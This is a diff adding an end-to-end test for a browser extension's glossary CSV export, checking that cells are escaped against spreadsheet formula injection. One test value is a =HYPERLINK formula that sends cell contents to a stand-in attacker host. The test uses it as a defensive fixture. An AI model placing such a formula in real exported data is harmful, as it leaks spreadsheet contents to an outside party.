@@ -2,6 +2,8 @@
  * Popup and options in Chromium (issue 7): on-this-page list and reveal, the site switch, the
  * user's own glossary (form and import, all or nothing), highlight style, and axe-core checks.
  */
+import { readFileSync } from 'node:fs';
+import Papa from 'papaparse';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { safetyPages } from '../fixtures/safety-pages';
@@ -179,6 +181,50 @@ describe('options', () => {
       ownEntries: { id: string; en: { definition: string } }[];
     };
     expect(stored.ownEntries.find((e) => e.id === 'goede-term')?.en.definition).toBe('A definition.');
+    await options.close();
+  });
+
+  it('exports own entries as CSV with no cell a spreadsheet would run, and reads them back as typed (audit F10)', async () => {
+    const options = await harness.open(`${extensionPage}/options.html`);
+    const typed = {
+      nl: '=HYPERLINK("https://evil.example/?"&A1,"klik") is geen formule.',
+      en: '+31 70 123 4567, -2+3 and @SUM(1+1) are no formulas either.',
+    };
+    await options.getByRole('button', { name: 'Add an entry' }).click();
+    const form = options.getByRole('form', { name: 'Add an entry' });
+    await form.getByLabel('Dutch term').fill('Formuleproef');
+    await form.getByLabel('Dutch definition').fill(typed.nl);
+    await form.getByLabel('English term').fill('Formula test');
+    await form.getByLabel('English definition').fill(typed.en);
+    await form.getByRole('button', { name: 'Save entry' }).click();
+    await options.locator('.own-list', { hasText: 'Formula test' }).waitFor();
+
+    const saved = options.waitForEvent('download');
+    await options.getByRole('button', { name: 'Export CSV' }).click();
+    const file = await saved;
+    expect(file.suggestedFilename()).toBe('begrip-own.csv');
+    const csv = readFileSync((await file.path()) as string, 'utf8');
+    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
+    const row = rows.find((r) => r.id === 'formuleproef');
+    // Written with a leading apostrophe, as spreadsheets take a cell to be text.
+    expect(row?.nl_definition).toBe(`'${typed.nl}`);
+    expect(row?.en_definition).toBe(`'${typed.en}`);
+    for (const cells of rows)
+      for (const cell of Object.values(cells)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    // The file reads back as the reader typed it, apostrophes gone.
+    await options
+      .locator('input[type="file"]')
+      .setInputFiles({ name: 'begrip-own.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
+    const preview = options.getByRole('region', { name: 'Import from begrip-own.csv' });
+    await preview.waitFor();
+    await preview.getByRole('button', { name: 'Import' }).click();
+    await options.getByText(/^Imported \d+ entr/).waitFor();
+    const stored = (await options.evaluate(() => chrome.storage.local.get('ownEntries'))) as {
+      ownEntries: { id: string; nl: { definition: string }; en: { definition: string } }[];
+    };
+    const entry = stored.ownEntries.find((e) => e.id === 'formuleproef');
+    expect([entry?.nl.definition, entry?.en.definition]).toEqual([typed.nl, typed.en]);
     await options.close();
   });
 
